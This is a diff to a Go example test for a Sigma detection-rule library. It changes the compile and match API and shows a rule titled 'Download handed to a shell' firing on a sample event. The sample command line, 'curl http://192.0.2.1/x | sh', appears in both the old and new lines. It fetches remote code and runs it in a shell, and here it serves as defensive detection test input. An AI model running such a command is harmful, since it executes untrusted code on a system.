@@ -7,7 +7,7 @@ import (
 )
 
 func Example() {
-	rules, err := sigma.Compile(sigma.Source{Name: "demo.yml", Text: `
+	rules, err := sigma.Compile(sigma.Options{}, sigma.Source{Name: "demo.yml", Text: `
 title: Download handed to a shell
 logsource: {category: process_creation, product: linux}
 detection:
@@ -19,8 +19,11 @@ detection:
 		fmt.Println(err)
 		return
 	}
-	src := sigma.LogSource{Category: "process_creation", Product: "linux"}
-	for _, r := range rules.Match(src, sigma.Map{"CommandLine": "curl http://192.0.2.1/x | sh"}) {
+	event := sigma.Event{
+		Source: sigma.LogSource{Category: "process_creation", Product: "linux"},
+		Fields: []sigma.Field{{Name: "CommandLine", Value: "curl http://192.0.2.1/x | sh"}},
+	}
+	for _, r := range rules.Match(&event) {
 		fmt.Println(r.Title)
 	}
 	// Output: Download handed to a shell
